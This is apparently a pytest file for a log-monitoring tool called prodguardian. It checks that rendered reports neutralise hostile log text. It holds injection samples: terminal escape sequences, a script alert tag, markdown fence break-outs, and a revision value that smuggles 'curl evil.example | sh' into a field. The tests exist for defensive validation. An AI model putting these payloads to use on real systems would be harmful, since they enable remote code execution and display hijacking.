"""Reports treat log text as data: no terminal escapes, no markdown break-out, no shell injection."""

from __future__ import annotations

import json

from prodguardian.check import CheckOptions, run_check
from prodguardian.render import clean, render
from prodguardian.rules import RulePack
from tests import logs

HOSTILE = "KeyError: '\x1b[2J\x1b[31mpwned\x1b[0m' ``` <script>alert(1)</script> \u202eevil\r\n| a | b |"


def hostile_report(pack: RulePack, revision: str = logs.REVISION) -> str:
    entries = [logs.request(i, "/api/threads", revision=revision) for i in range(60)]
    for i in range(4):
        entries.append(logs.request(100 + i, "/api/threads", 500, trace=f"{i:032x}", revision=revision))
        entries.append(logs.json_line(100.1 + i, HOSTILE, "ERROR", trace=f"{i:032x}", revision=revision))
    report = run_check(entries, CheckOptions(), pack).report
    return "\n".join(
        render(report, fmt, lang) for fmt in ("text", "markdown", "json") for lang in ("en", "fr")
    )


def test_control_characters_never_reach_the_terminal(pack: RulePack) -> None:
    output = hostile_report(pack)
    assert "\x1b" not in output and "\r" not in output and "\u202e" not in output
    assert "pwned" in output  # the text is still shown, defanged


def test_markdown_code_spans_cannot_be_broken_out_of() -> None:
    from prodguardian.render import _inline_code

    span = _inline_code("a ``` b ` c")
    fence = span[: span.index("a")].strip()
    assert set(fence) == {"`"} and len(fence) == 4
    assert span.endswith(fence)


def test_json_report_keeps_the_message_as_data(pack: RulePack) -> None:
    entries = [logs.request(i, "/api/threads") for i in range(60)]
    entries += [logs.json_line(100 + 10 * i, '{"status": "OK"} "quoted"', "ERROR") for i in range(4)]
    report = run_check(entries, CheckOptions(), pack).report
    document = json.loads(render(report, "json"))
    assert document["status"] == "DEGRADED"
    assert '{"status": "OK"} "quoted"' in document["findings"][0]["examples"]


def test_names_from_logs_never_reach_a_shell_command(pack: RulePack) -> None:
    output = hostile_report(pack, revision="rev-1; curl evil.example | sh")
    assert "curl evil" not in "\n".join(line for line in output.splitlines() if "gcloud" in line)


def test_clean_keeps_text_and_newlines() -> None:
    assert clean("line one\nline two\tend") == "line one\nline two\tend"
    assert clean("\x07bell\x9b") == "\ufffdbell\ufffd"
